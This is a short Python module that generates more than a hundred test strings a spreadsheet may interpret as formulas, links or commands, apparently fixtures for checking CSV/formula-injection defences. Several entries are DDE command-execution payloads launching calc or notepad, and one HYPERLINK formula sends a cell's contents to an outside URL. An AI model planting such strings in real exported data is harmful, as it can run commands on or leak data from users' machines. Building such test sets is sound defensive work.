"""A hundred and more texts that a spreadsheet may take for a formula, a link or a command."""

from itertools import product
from typing import Final

_STARTS: Final = (
    *("=", "+", "-", "@"),
    *("\uff1d", "\uff0b", "\uff0d", "\uff20"),  # full width
    *("\ufe66", "\ufe62", "\ufe63", "\ufe6b"),  # small
    *("\t=", "\r=", "\n=", "\0="),
)
_BEFORE: Final = ("", " ", "   ", "\u00a0", "\u2003", "\u3000")
_AFTER: Final = (
    "1+1",
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://example.org/?"&A1,"Redditch")',
    "SUM(A1:A9)",
    "+44 1905 000000",
    '"";DDE("cmd";"/c calc")',
    "2+3+cmd|' /C notepad'!'A1'",
)

RISKY: Final = (
    tuple(
        f"{before}{start}{_AFTER[number % len(_AFTER)]}"
        for number, (before, start) in enumerate(product(_BEFORE, _STARTS))
    )
    + tuple(f"={after}" for after in _AFTER)
    + ("=", "+", "-", "@", "\t", "\r", "\n", "--", "=-1")
)
